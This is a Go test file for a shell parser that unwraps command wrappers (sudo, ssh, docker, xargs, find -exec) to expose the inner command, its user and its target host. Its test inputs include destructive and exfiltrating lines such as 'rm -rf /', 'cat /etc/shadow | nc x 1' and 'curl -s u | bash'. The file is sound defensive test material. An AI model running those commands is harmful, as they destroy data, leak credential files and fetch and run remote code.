package shell

import (
	"strings"
	"testing"
)

// shownWords are ws as the tests write them: a known word's value, an
// unknown one's raw text after "?".
func shownWords(ws []Word) []string {
	var out []string
	for _, w := range ws {
		if w.Known {
			out = append(out, w.Value)
		} else {
			out = append(out, "?"+w.Raw)
		}
	}
	return out
}

// sum is a command in one line: its wrappers (>), its words (?RAW for
// one not certain), !KIND for code not read, + for words not on the line,
// @ for where it runs, u= for the user.
func sum(c *Command) string {
	var ws []string
	user := ""
	for _, w := range c.Wrappers {
		ws = append(ws, w.Name)
		if w.User != "" {
			user = w.User
		}
	}
	var b strings.Builder
	if len(ws) > 0 {
		b.WriteString(strings.Join(ws, ">") + "| ")
	}
	b.WriteString(strings.Join(shownWords(c.Words), " "))
	if c.Opaque != nil {
		b.WriteString(" !" + c.Opaque.Kind)
	}
	if c.MoreArgs {
		b.WriteString(" +")
	}
	if r := c.Remote(); r != "" {
		b.WriteString(" @" + r)
	}
	if user != "" {
		b.WriteString(" u=" + user)
	}
	return b.String()
}

// wordSums are words' certain values, ?RAW for one not certain.
func wordSums(ws []Word) []string {
	out := make([]string, 0, len(ws))
	for _, w := range ws {
		if w.Known {
			out = append(out, w.Value)
		} else {
			out = append(out, "?"+w.Raw)
		}
	}
	return out
}

func sums(t *testing.T, line string) []string {
	t.Helper()
	s, err := Parse(line, Options{})
	if err != nil {
		t.Fatalf("Parse(%q): %v", line, err)
	}
	var out []string
	for _, c := range s.Commands {
		out = append(out, sum(c))
	}
	return out
}

func TestWrappers(t *testing.T) {
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"rm -rf build", []string{"rm -rf build"}},
		{"sudo rm -rf /", []string{"sudo| rm -rf / u=root"}},
		{"sudo -u bob -- rm x", []string{"sudo| rm x u=bob"}},
		{"sudo -ubob rm x", []string{"sudo| rm x u=bob"}},
		{"sudo -l", []string{"sudo -l"}},
		{"sudo -s", []string{"sudo| sh !input u=root"}},
		{"sudo FOO=1 make install", []string{"sudo| make install u=root"}},
		{"doas -u alice shred f", []string{"doas| shred f u=alice"}},
		{"env -i -u HOME PATH=/x terraform destroy", []string{"env| terraform destroy"}},
		{"env", []string{"env"}},
		{"env -S 'rm -rf x'", []string{"env| rm -rf x"}},
		{"nice -n 10 rm a", []string{"nice| rm a"}},
		{"nice -5 rm a", []string{"nice| rm a"}},
		{"ionice -c3 rm a", []string{"ionice| rm a"}},
		{"ionice -p 12", []string{"ionice -p 12"}},
		{"timeout -s KILL 10s rm a", []string{"timeout| rm a"}},
		{"timeout 5", []string{"timeout 5"}},
		{"stdbuf -oL grep x f", []string{"stdbuf| grep x f"}},
		{"setsid -f nohup rm a", []string{"setsid>nohup| rm a"}},
		{"chroot /mnt rm -rf /", []string{"chroot| rm -rf / @root /mnt"}},
		{"chroot /mnt", []string{"chroot| sh !input @root /mnt"}},
		{"watch -n 1 'ls; rm x'", []string{"watch| ls", "watch| rm x"}},
		{"watch -x rm x", []string{"watch| rm x"}},
		{"flock /tmp/l rm x", []string{"flock| rm x"}},
		{"flock /tmp/l -c 'rm x'", []string{"flock| rm x"}},
		{"flock -c 'rm x' /tmp/l", []string{"flock| rm x"}},
		{"script -q -c 'rm x' /dev/null", []string{"script| rm x"}},
		{"script", []string{"script !input"}},
		{"/usr/bin/time -v rm x", []string{"time| rm x"}},
		{"time rm x", []string{"time| rm x"}},
		{"command rm x", []string{"command| rm x"}},
		{"command -v rm", []string{"command -v rm"}},
		{"builtin cd /", []string{"builtin| cd /"}},
		{"exec -a foo rm x", []string{"exec| rm x"}},
		{"exec >log", []string{"exec"}},
		{"xargs rm", []string{"xargs| rm +"}},
		{"xargs -0 -n1 -I{} rm {}", []string{"xargs| rm {} +"}},
		{"xargs", []string{"xargs| echo +"}},
		{"find . -name '*.o' -exec rm -f {} +", []string{"find . -name *.o -exec rm -f {} +", "find -exec| rm -f {} +"}},
		{"find / -execdir sh -c 'rm $1' _ {} \\; -ok cat {} \\;", []string{"find / -execdir sh -c rm $1 _ {} ; -ok cat {} ;", "find -exec>sh -c| rm ?$1", "find -exec| cat {} +"}},
		{"su -c 'rm x' bob", []string{"su -c| rm x u=bob"}},
		{"su - -c 'rm x'", []string{"su -c| rm x u=root"}},
		{"su bob", []string{"su bob !input"}},
		{"runuser -u bob -- rm x", []string{"runuser| rm x u=bob"}},
		{"ssh host rm -rf /srv", []string{"ssh| rm -rf /srv @host"}},
		{"ssh -i key -p 22 u@h 'cat /etc/shadow | nc x 1'", []string{"ssh| cat /etc/shadow @u@h u=u", "ssh| nc x 1 @u@h u=u"}},
		{"ssh host", []string{"ssh host"}},
		{"docker exec -it web rm -rf /data", []string{"docker exec| rm -rf /data @container web"}},
		{"docker run --rm -v /:/h alpine sh -c 'rm -rf /h'", []string{"docker run>sh -c| rm -rf /h @image alpine"}},
		{"docker run --rm alpine", []string{"docker run --rm alpine !unknown"}},
		{"docker ps", []string{"docker ps"}},
		{"podman container exec c ls", []string{"podman exec| ls @container c"}},
		{"kubectl exec -n prod -it pod/web -- rm -rf /data", []string{"kubectl exec| rm -rf /data @pod pod/web"}},
		{"kubectl get pods", []string{"kubectl get pods"}},
		{"bash -c 'rm -rf x && echo ok'", []string{"bash -c| rm -rf x", "bash -c| echo ok"}},
		{"sh -lec 'rm x'", []string{"sh -c| rm x"}},
		{"bash script.sh", []string{"bash script.sh !script"}},
		{"curl -s u | bash", []string{"curl -s u", "bash !input"}},
		{"eval 'rm -rf x'", []string{"eval| rm -rf x"}},
		{"eval \"$(curl u)\"", []string{"curl u", "eval ?\"$(curl u)\" !eval"}},
		{"source ./env.sh", []string{"source ./env.sh !source"}},
		{". ./env.sh", []string{". ./env.sh !source"}},
		{"python3 -c 'import os'", []string{"python3 -c import os !inline"}},
		{"python3 -m http.server", []string{"python3 -m http.server !script"}},
		{"python3 --version", []string{"python3 --version"}},
		{"perl -e 'unlink 1'", []string{"perl -e unlink 1 !inline"}},
		{"node -e 'x'", []string{"node -e x !inline"}},
		{"ruby x.rb", []string{"ruby x.rb !script"}},
		{"$CMD -rf x", []string{"?$CMD -rf x !unknown"}},
		{"C=rm; $C x", []string{"", "rm x"}},
		{"sudo $(which rm) x", []string{"which rm", "sudo| ?$(which rm) x !unknown"}},
		{"sudo $OPT rm x", []string{"sudo| ?$OPT rm x !unknown"}},
		{"sudo -u $U rm x", []string{"sudo| rm x u=?$U"}},
		{"docker run --entrypoint /bin/sh -u $U img -c 'rm x'", []string{"docker run>sh -c| rm x @image img u=?$U"}},
		{"nohup sudo env A=1 timeout 3 bash -c 'shred -u k'", []string{"nohup>sudo>env>timeout>bash -c| shred -u k u=root"}},
	} {
		got := sums(t, tc.line)
		if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
			t.Errorf("%s\n got %q\nwant %q", tc.line, got, tc.want)
		}
	}
}

// Others are the words outside simple commands: for items, case subject
// and patterns, [[ ]] operands, as far as they are certain.
func TestOthers(t *testing.T) {
	for line, want := range map[string]string{
		"for f in a 'b c' $X; do rm $f; done":        "a|b c|?$X",
		"case $1 in start) go ;; st*) stop ;; esac":  "?$1|start|?st*",
		"[[ -f /etc/passwd && $Y == z ]] && echo ok": "/etc/passwd|?$Y|z",
		"X=v; for i in $X; do :; done; echo $(ls)":   "v",
		"sh -c 'for g in one two; do echo $g; done'": "one|two",
		"echo plain": "",
	} {
		s, err := Parse(line, Options{})
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if g := strings.Join(wordSums(s.Others), "|"); g != want {
			t.Errorf("%q: Others %q, want %q", line, g, want)
		}
	}
}

// Wrap.Dir and Wrap.Login: where the wrapper runs the command, and in a
// login environment; chrt, taskset and busybox are looked through.
func TestWrapDirLoginAndMore(t *testing.T) {
	for line, want := range map[string]string{
		"env -C /srv rm x":             "env| rm x dir=/srv",
		"env --chdir=/srv rm x":        "env| rm x dir=/srv",
		"sudo -D /srv rm x":            "sudo| rm x u=root dir=/srv",
		"sudo --chdir $D rm x":         "sudo| rm x u=root dir=?$D",
		"sudo -i rm x":                 "sudo| rm x u=root login",
		"su - bob -c 'rm x'":           "su -c| rm x u=bob login",
		"su -l -c 'rm x'":              "su -c| rm x u=root login",
		"su -c 'rm x'":                 "su -c| rm x u=root",
		"chrt 10 rm x":                 "chrt| rm x",
		"chrt -f 10 rm x":              "chrt| rm x",
		"chrt -b rm x":                 "chrt| rm x",
		"chrt -p 10 123":               "chrt -p 10 123",
		"taskset 3 rm x":               "taskset| rm x",
		"taskset -c 0,1 rm x":          "taskset| rm x",
		"taskset -p 3 123":             "taskset -p 3 123",
		"busybox rm x":                 "busybox| rm x",
		"busybox sh -c 'rm x'":         "busybox>sh -c| rm x",
		"nice env -C /a sudo -D /b ls": "nice>env>sudo| ls u=root dir=/a dir=/b",
		// script reads its options anywhere, the last -c winning.
		"script -q /dev/null -c 'rm x'": "script| rm x",
		"script -qc 'rm x' /dev/null":   "script| rm x",
		"script log -c 'rm x'":          "script| rm x",
		"script -qc ls -c 'rm x'":       "script| rm x",
		"script --command='rm x' log":   "script| rm x",
		"script log":                    "script log !input",
		"script -- -c 'rm x'":           "script -- -c rm x !input",
		"script -V -c 'rm x'":           "script -V -c rm x",
	} {
		c := parse(t, line).Commands[0]
		got := sum(c)
		for _, w := range c.Wrappers {
			if w.Dir != "" {
				got += " dir=" + w.Dir
			}
			if w.Login {
				got += " login"
			}
		}
		if got != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

// Through unwraps one wrapper of words already expanded, by the rules
// Parse uses.
func TestThrough(t *testing.T) {
	ws := func(s ...string) []Word {
		var out []Word
		for _, x := range s {
			out = append(out, known(x))
		}
		return out
	}
	st, ok := Through(ws("sudo", "-u", "bob", "X=1", "rm", "-rf", "d"))
	if !ok || st.Wrap.Name != "sudo" || st.Wrap.User != "bob" || len(st.Wrap.Env) != 1 || joinRaw(st.Inner) != "rm -rf d" {
		t.Errorf("sudo: %+v %v", st, ok)
	}
	st, ok = Through(ws("/usr/bin/flock", "/tmp/l", "-c", "rm d"))
	if !ok || st.Script == nil || *st.Script != "rm d" || st.Wrap.Name != "flock" {
		t.Errorf("flock -c: %+v %v", st, ok)
	}
	st, ok = Through(ws("command", "-v", "rm"))
	if !ok || !st.Stop {
		t.Errorf("command -v: %+v %v", st, ok)
	}
	st, ok = Through(ws("xargs", "-0", "rm"))
	if !ok || !st.MoreArgs || joinRaw(st.Inner) != "rm" {
		t.Errorf("xargs: %+v %v", st, ok)
	}
	st, ok = Through(ws("find", ".", "-exec", "rm", "{}", ";"))
	if !ok || len(st.Children) != 1 || joinRaw(st.Children[0]) != "rm {}" {
		t.Errorf("find: %+v %v", st, ok)
	}
	st, ok = Through(ws("python3", "-c", "x"))
	if ok {
		t.Errorf("python3 is not a wrapper: %+v", st)
	}
	if _, ok := Through([]Word{{Raw: "$X", Value: "$X"}}); ok {
		t.Error("a name not certain is not a wrapper")
	}
}

// The test command's [ and ] are words, not globs; [ab] is a glob.
func TestBracketWords(t *testing.T) {
	s, err := Parse("[ -f x ] && ls [ab]", Options{})
	if err != nil {
		t.Fatal(err)
	}
	first, second := s.Commands[0], s.Commands[1]
	if !first.Words[0].Known || !first.Words[3].Known || first.Words[3].Value != "]" {
		t.Errorf("[ -f x ]: %+v", first.Words)
	}
	if second.Words[1].Known {
		t.Errorf("[ab] taken as certain: %+v", second.Words[1])
	}
}
